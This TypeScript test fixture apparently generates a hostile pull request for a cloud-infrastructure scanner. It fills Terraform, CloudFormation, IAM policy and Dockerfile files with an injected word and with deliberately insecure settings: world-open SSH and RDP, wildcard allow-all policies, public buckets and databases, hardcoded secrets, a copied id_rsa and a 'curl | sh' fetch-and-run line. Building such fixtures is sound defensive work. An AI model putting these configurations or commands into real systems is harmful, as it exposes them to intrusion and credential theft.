/**
 * A pull request in which every string its author chooses is one hostile word: file and folder names, labels, keys of
 * instances, values that messages name, statement ids, variables, build arguments, broken syntax. Pure.
 */

/** Files by path. Paths are as git takes them; everything else carries the word as it is. */
export function hostileTree(word: string): Readonly<Record<string, string>> {
  const folder = `infra/${asPath(word)}`;
  return {
    [`${folder}/main.tf`]: terraform(word),
    'plain/main.tf': terraform(word),
    'labels/main.tf': `resource "aws_sqs_queue" ${hcl(word)} {\n  sqs_managed_sse_enabled = false\n}\n`,
    'broken/main.tf': `resource "aws_sqs_queue" "broken" {\n  name = ${word}\n  = ${hcl(word)}\n`,
    'broken/broken.json': `{ "Resources": { ${JSON.stringify(word)}: { "Type": "AWS::SQS::Queue", ${word}`,
    [`${folder}/stack.template.json`]: JSON.stringify(template(word), null, 2),
    'plain/stack.template.yaml': yamlTemplate(word),
    [`${folder}/policy.json`]: JSON.stringify(policy(word), null, 2),
    [`${folder}/Dockerfile`]: dockerfile(word),
    'plain/Dockerfile': dockerfile(word),
    'settings/threatdiff.auto.tfvars': `region = ${hcl(word)}\n`,
    '.github/threatdiff.yml': `version: 1\n${JSON.stringify(word)}: 1\n`,
  };
}

/** Git has no empty, `.` or `..` part, and no NUL. */
function asPath(word: string): string {
  return (
    word
      .replaceAll('\0', '')
      .replace(/\/+/g, '/')
      .replace(/^\/|\/$/g, '') || 'evil'
  );
}

function hcl(word: string): string {
  return JSON.stringify(word).replaceAll('${', '$${').replaceAll('%{', '%%{').replaceAll('\\b', '\\u0008');
}

function terraform(word: string): string {
  const text = hcl(word);
  const comment = word.split(/[\r\n]/)[0] ?? '';
  return `variable "name" {
  default = ${text}
}

variable "unknown" {}

module "evil" {
  source = "git::https://example.com/${word.replace(/["\\\r\n$%]/g, '')}.git"
}

resource "aws_security_group" "open" {
  name = ${text}
  ingress {
    description = ${text}
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_security_group" "each" {
  for_each = toset([${text}])
  name     = var.name
  ingress {
    from_port   = 3389
    to_port     = 3389
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_sqs_queue" "orders" {
  name                    = var.name
  sqs_managed_sse_enabled = false # ${comment}
}

resource "aws_sqs_queue_policy" "public" {
  queue_url = ${text}
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{ Sid = ${text}, Effect = "Allow", Principal = "*", Action = [${text}, "sqs:SendMessage"], Resource = ${text} }]
  })
}

resource "aws_db_instance" "open" {
  identifier          = ${text}
  publicly_accessible = data.evil.this[${text}].open
  storage_encrypted   = var.unknown[${text}]
}

data "external" "run" {
  program = [${text}, ${text}]
}
`;
}

function template(word: string) {
  return {
    Transform: [word],
    Parameters: { [word]: { Type: 'String', Default: word } },
    Resources: {
      [word]: {
        Type: 'AWS::IAM::ManagedPolicy',
        Properties: { ManagedPolicyName: word, PolicyDocument: policy(word) },
      },
      Inline: {
        Type: 'AWS::IAM::Role',
        Properties: {
          RoleName: { Ref: word },
          AssumeRolePolicyDocument: policy(word),
          Policies: [{ PolicyName: word, PolicyDocument: policy(word) }],
        },
      },
    },
  };
}

function yamlTemplate(word: string): string {
  const text = JSON.stringify(word);
  return `AWSTemplateFormatVersion: "2010-09-09"
Description: ${text}
Resources:
  Public:
    Type: AWS::RDS::DBInstance
    Properties:
      DBInstanceIdentifier: ${text}
      PubliclyAccessible: true
  ? ${text.length > 1000 ? '"long"' : text}
  : Type: AWS::S3::Bucket
    Properties:
      BucketName: ${text}
      AccessControl: PublicReadWrite
  Unknown:
    Type: AWS::RDS::DBInstance
    Properties:
      PubliclyAccessible: !ImportValue ${text}
`;
}

function policy(word: string) {
  const action = ['*', word];
  return {
    Version: '2012-10-17',
    Id: word,
    Statement: [{ Sid: word, Effect: 'Allow', Principal: '*', Action: action, Resource: ['*', word] }],
  };
}

function dockerfile(word: string): string {
  const line = word.replace(/[\r\n]+/g, ' ');
  return `FROM ${line.replaceAll(' ', '')}:latest AS ${line.replaceAll(' ', '')}
ENV PASSWORD${line.replace(/[ ="]/g, '')}=hunter2hunter2 SECRET_KEY="${line.replaceAll('"', '')}"
ARG ${line.replace(/[ =]/g, '')}_TOKEN=hunter2hunter2
COPY ${line} id_rsa /root/.ssh/
RUN curl -k https://example.com/${line} | sh
${word}
`;
}
